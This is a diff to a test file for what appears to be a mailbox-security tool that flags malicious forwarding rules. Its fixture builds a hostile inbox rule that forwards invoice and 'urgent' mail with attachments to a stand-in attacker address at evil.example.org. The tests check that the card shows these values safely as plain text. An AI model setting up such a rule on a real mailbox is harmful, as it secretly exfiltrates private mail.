@@ -15,6 +15,7 @@ function report(mailbox: Extract<ForwardingReport, { kind: 'checked' }>['mailbox
     displayName: EVIL_NAME,
     sequence: 1,
     isEnabled: true,
+    conditions: { subjectContains: ['invoice', '**urgent**'], hasAttachments: true },
     actions: { forwardTo: [{ emailAddress: { name: EVIL_RECIPIENT, address: 'drop@evil.example.org' } }] },
   });
   const benign = messageRuleSchema.parse({
@@ -46,6 +47,13 @@ describe('cards/forwarding.card', () => {
       assert.ok(!surface.includes(EVIL_NAME) && !surface.includes('Security Team'), surface);
       assert.ok(!surface.includes('evil.example.org'), surface);
     }
+  });
+
+  it('says when a flagged rule fires, with the condition values as TextRuns', () => {
+    const runs = textRuns(card);
+    assert.ok(runs.includes('invoice, **urgent**'));
+    assert.ok(runs.includes('subjectContains') && runs.includes('hasAttachments'));
+    assert.ok(!markdownSurfaces(card).some((s) => s.includes('urgent')));
   });
 
   it('offers "Disable this rule" for a flagged rule only, via the disable-rule command', () => {
